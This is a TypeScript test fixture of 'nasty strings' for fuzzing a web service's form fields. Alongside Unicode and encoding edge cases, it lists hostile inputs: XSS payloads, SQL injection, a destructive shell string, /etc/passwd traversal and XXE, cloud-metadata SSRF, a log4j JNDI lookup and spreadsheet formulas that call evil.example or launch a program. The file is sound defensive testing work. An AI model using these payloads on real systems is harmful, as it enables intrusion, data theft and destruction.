// Text that has broken other systems. Every field of every form must take each of these without a fault of the server.
// Invisible and misleading characters are written as escapes, so that this file can be read and searched.

/** A string to feed to a field, with the name it goes by in test titles. */
export interface NastyString {
  readonly name: string;
  readonly text: string;
}

const named: Readonly<Record<string, string>> = {
  // Empty or nearly so
  'empty': '',
  'one space': ' ',
  'tabs and newlines only': '\t\n\n\t',
  'ideographic spaces only': '\u3000\u3000',
  'no-break space': '\u00a0',
  'zero-width characters only': '\u200b\u200c\u200d\u2060\ufeff',
  'Hangul filler, blank but a letter': '\u3164',
  'Braille blank': '\u2800',

  // Control characters
  'NUL alone': '\u0000',
  'NUL inside': '修\u0000路',
  'NUL at the end': '修路\u0000',
  'all of C0': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(''),
  'DEL and C1': '\u007f\u0080\u0085\u009f',
  'terminal escape': '\u001b[2J\u001b[31m红\u001b[0m',
  'terminal title change': '\u001b]0;pwned\u0007',
  'backspaces over the text': 'admin\b\b\b\b\bguest',
  'vertical tab and form feed': '一\u000b二\u000c三',
  'record separators': 'a\u001cb\u001dc\u001ed\u001f',
  'NUL between letter and accent': 'e\u0000\u0301',
  'substitute, end of file on DOS': '前\u001a后',

  // Line ends
  'Windows lines': '第一行\r\n第二行\r\n',
  'old Mac lines': '第一行\r第二行',
  'line and paragraph separator': '一\u2028二\u2029三',
  'header injection': '标题\r\nSet-Cookie: sid=1\r\n\r\n<html>',
  'mail header injection': 'a@example.com\nBcc: all@example.com',
  'log forging': 'ok\n{"level":30,"msg":"audit verified"}',

  // Direction and look
  'right-to-left override in a file name': '照片\u202egpj.exe',
  'all embedding controls': '\u202a\u202b\u202c\u202d\u202e',
  'all isolates': '\u2066\u2067\u2068\u2069',
  'direction marks': '\u200e\u200f\u061c',
  'isolate never closed': '\u2067甲乙',
  'Arabic': 'مرحبا بالعالم',
  'Uyghur': 'ئۇيغۇر تىلى',
  'Hebrew with Latin and digits': 'שלום abc 123',
  'byte order mark in front': '\ufeff标题',
  'byte order mark inside': '标\ufeff题',
  'zero-width joiner at the ends': '\u200d结对帮扶\u200d',
  'zero-width space between': '主\u200b席\u200b团',
  'soft hyphen': '代\u00ad表',
  'look-alike Latin from Cyrillic': '\u0430dmin',
  'tag characters': 'a\u{e0061}\u{e0062}\u{e007f}',
  'many accents on one letter': `Z${'\u0351\u0489\u035b'.repeat(60)}`,
  'lone accent': '\u0301',
  'annotation characters': '\ufff9一\ufffa二\ufffb',

  // Encodings
  'lone high surrogate': '甲\ud800乙',
  'lone low surrogate': '\udc00',
  'surrogates the wrong way round': '\udfff\ud800',
  'string cut inside a rare character': '𠮷'.slice(0, 1),
  'noncharacters': '\ufffe\uffff\u{1ffff}\u{10ffff}',
  'replacement character': '\ufffd\ufffd',
  'private use': '\ue000\u{f0000}',
  'decomposed é': 'cafe\u0301',
  'decomposed Hangul': '\u1112\u1161\u11ab',
  'compatibility ideograph': '\uf900\ufa0e\u{2f800}',
  'ligature that grows eighteen times': '\ufdfa',
  'Turkish dotless and dotted i': 'ıİiI',
  'sharp s': 'Straße STRASSE ẞ',
  'UTF-8 read as Latin-1': 'ä¸\u00adå\u009b½',
  'GBK read as Latin-1': 'ÖÐ¹ú',
  'full-width letters and digits': 'ＡＢＣ１２３＠',
  'Arabic-Indic digits': '١٢٣٤',
  'superscript and circled digits': '²³①㈠',

  // Emoji
  'family of four, one glyph': '👨\u200d👩\u200d👧\u200d👦',
  'flag and skin tone': '🇨🇳👍🏽',
  'flag of England by tags': '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  'heart with selector': '❤\ufe0f',
  'keycap': '1\ufe0f\u20e3',

  // Names and rare characters
  'rare character outside the basic plane': '𠮷野家',
  'rare character of extension A': '㛃',
  'extensions B to H': '𪚥𫝀𫠠𬺰𰻝\u{31350}',
  'character with ideographic selector': '葛\u{e0100}城',
  'name with middle dot': '买买提·吐尔逊·阿不都热西提',
  'name with the other dots': '阿依古丽•买买提‧吐尔逊・艾力',
  'name that reads as no value': 'null',
  'name as other no values': 'undefined NaN None nil',
  'Mongolian': 'ᠮᠣᠩᠭᠣᠯ',
  'Tibetan': 'བོད་ཡིག',
  'Yi': 'ꆈꌠꁱꂷ',
  'iteration mark and zero': '佐々木二〇二五',

  // Attacks on markup and script
  'script element': '<script>alert(1)</script>',
  'image with a handler': '"><img src=x onerror=alert(1)>',
  'SVG with a handler': '<svg/onload=alert(1)>',
  'attribute breakout': '\' onfocus=alert(1) autofocus x=\'',
  'script address': 'javascript:alert(document.cookie)',
  'data address': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'closing textarea and title': '</textarea></title><script>alert(1)</script>',
  'comment and CDATA': '<!-- ]]> --><![CDATA[ <b>',
  'character references': '&lt;script&gt;&#0;&#x26;&amp;amp;',
  'external entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'style with an import': '<style>@import"//evil.example/x.css"</style>',
  'Vue and other templates': '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>',
  'placeholder of our own words': '{name} {deputy} {0}',
  'Markdown link': '[点这里](javascript:alert(1)) ![](x)',
  'Typst code': '#read("/etc/passwd") $x$ @ref <label> *_`\\',

  // Attacks on the database, the shell and files
  'SQL quote': '\'; DROP TABLE opinion; --',
  'SQL always true': '1\' OR \'1\'=\'1\' /*',
  'SQL pattern characters': '100%_\\',
  'search operators': '! & | <-> :* \' ()',
  'dollar quotes and parameters': '$$ $1 $tag$ :name ?',
  'JSON path': '$.."a"[*] ? (@ > 1)',
  'shell': '; rm -rf / && `id` $(id) | cat > /tmp/x',
  'LDAP and XPath': '*)(uid=*))(|(uid=* \' or 1=1 or \'',
  'path upwards': '../../../../etc/passwd',
  'path upwards, encoded': '..%2f..%252f..%c0%af',
  'Windows path and device': '..\\..\\C:\\CON.txt:stream',
  'file name with slash and NUL': 'a/b\u0000.png',
  'percent that decodes to nothing': '%00%0d%0a%E4%B8',
  'regular expression that backtracks': `${'a'.repeat(40)}! (a+)+$`,
  'prototype keys': '__proto__.constructor.prototype',
  'internal address': 'http://169.254.169.254/latest/meta-data/',
  'log4j lookup': '${jndi:ldap://evil.example/a}',

  // Cells of a table
  'formula': '=HYPERLINK("http://evil.example","点这里")',
  'formula that starts a program': '=cmd|\'/c calc\'!A0',
  'formula by plus': '+1+1',
  'formula by minus': '-2+3',
  'formula by at': '@SUM(A1:A9)',
  'formula after a tab': '\t=1+1',
  'quotes, commas and lines of CSV': '甲,"乙""丙",\n丁;戊',
  'leading zeros': '00012345678901234567890',
  'number in exponent form': '1e309',
  'looks like a date': '2025-02-30',
  'boolean': 'TRUE',

  // Too much
  'JSON bomb of brackets': '['.repeat(20_000),
  'JSON bomb of objects': '{"a":'.repeat(5_000),
  'one long word': 'a'.repeat(100_000),
  'long Chinese text': '路'.repeat(50_000),
  'long run of blanks inside': `甲${' '.repeat(60_000)}乙`,
  'pile of accents that takes minutes to sort': `e${'\u0351\u0323'.repeat(200_000)}`,
  'many lines': '\n'.repeat(20_000),
  'many emoji families': '👨\u200d👩\u200d👧\u200d👦'.repeat(2_000),
};

/** The corpus. */
export const nastyStrings: readonly NastyString[] = Object.entries(named).map(([name, text]) => ({ name, text }));

/** Values that are no strings but arrive in the same bodies: too deep, too wide, with keys that reach for the prototype. */
export const nastyValues: readonly { readonly name: string; readonly value: unknown }[] = [
  { name: 'array in an array, 200 deep', value: JSON.parse('['.repeat(200) + ']'.repeat(200)) },
  { name: 'object in an object, 200 deep', value: JSON.parse('{"a":'.repeat(200) + '1' + '}'.repeat(200)) },
  { name: 'array of 60,000 values', value: Array.from({ length: 60_000 }, () => 0) },
  { name: 'prototype keys', value: JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}') },
  { name: 'numbers at the edge', value: [Number.MAX_SAFE_INTEGER + 1, -0, 1e308, 5e-324] },
  { name: 'key with NUL and bidi control', value: { 'a\u0000\u202e': 1 } },
  { name: 'array where text is expected', value: ['甲', ['乙']] },
  { name: 'null', value: null },
];
